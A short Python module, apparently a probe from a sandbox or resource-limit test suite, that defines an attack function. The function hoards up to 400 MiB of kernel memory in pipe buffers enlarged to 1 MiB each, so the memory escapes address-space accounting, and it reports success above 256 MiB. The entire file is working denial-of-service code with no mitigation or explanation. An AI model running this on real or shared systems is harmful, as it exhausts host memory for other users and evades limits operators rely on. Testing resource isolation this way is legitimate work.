"""Keep as much as possible in the kernel's buffers, which no address space counts: pipes at their largest size."""

import fcntl
import os


def attack(target):
    kept, hoard = 0, []
    try:
        while kept < 400 << 20:
            reader, writer = os.pipe()
            hoard += [reader, writer]
            os.set_blocking(writer, False)
            fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ
            kept += os.write(writer, bytes(1 << 20))
    except OSError:
        pass
    return [kept] if kept > 256 << 20 else []
